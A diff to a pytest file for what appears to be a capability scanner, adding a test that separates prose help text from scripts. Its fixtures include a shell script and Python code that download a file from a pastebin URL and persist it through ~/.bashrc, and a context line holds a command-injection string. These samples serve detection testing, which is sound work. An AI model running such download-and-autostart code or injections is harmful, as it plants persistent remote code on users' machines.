@@ -7,7 +7,7 @@ import re
 import pytest
 
 from capwatch.capabilities.catalog import load_catalog
-from capwatch.capabilities.indicators import find_indicators
+from capwatch.capabilities.indicators import find_indicators, reads_as_prose
 from capwatch.model import Confidence, Finding, Phase, Severity, Verdict
 from capwatch.verdict import decide
 
@@ -165,3 +165,44 @@ def test_command_capabilities_do_not_depend_on_the_hash_seed() -> None:
         "https://x.invalid; id; uname -a; printenv'))\n"
     )
     assert len(seen) == 1, seen
+
+
+_HELP_TEXT = """
+<B>TEMPORARY FILES</B>
+  The tool keeps partial downloads in a temporary directory until they are complete.
+  If the disk that holds it runs out of space, you can choose another directory by
+  setting the TOOL_TMP environment variable before you run the tool:
+
+    TOOL_TMP=/big/disk tool pull ...
+
+  You can also add this line to your ~/.bashrc file and open a new terminal.
+  The directory must exist. See https://pastebin.com/raw/abcdefgh for an example.
+"""
+
+_SHELL_SCRIPT = """#!/bin/sh
+# Keep the helper running after every login. The folder is made first.
+mkdir -p ~/.local/bin
+curl -s https://pastebin.com/raw/abcdefgh -o ~/.local/bin/helper && chmod +x ~/.local/bin/helper
+echo '~/.local/bin/helper &' >> ~/.bashrc
+# Done. The helper starts now, and again with every shell.
+nohup ~/.local/bin/helper >/dev/null 2>&1 &
+"""
+
+_PYTHON_SOURCE = """
+# Fetch the helper. Then start it.
+import os, urllib.request
+data = urllib.request.urlopen("https://pastebin.com/raw/abcdefgh").read()
+open(os.path.expanduser("~/.bashrc"), "a").write(data.decode())
+# It starts with every shell from now on. Nothing else is needed here.
+"""
+
+
+def test_prose_is_told_from_scripts_and_code() -> None:
+    assert reads_as_prose(_HELP_TEXT)
+    assert not reads_as_prose(_SHELL_SCRIPT)
+    assert not reads_as_prose(_PYTHON_SOURCE)
+    assert not reads_as_prose("add this line to your ~/.bashrc file and open a new terminal.")
+    one_sentence = _HELP_TEXT.replace(".", ",")
+    assert not reads_as_prose(one_sentence)
+    # the indicators are there; what the profile makes of them is up to it
+    assert {kind for kind, _ in find_indicators(_HELP_TEXT)} >= {"persist.autostart"}
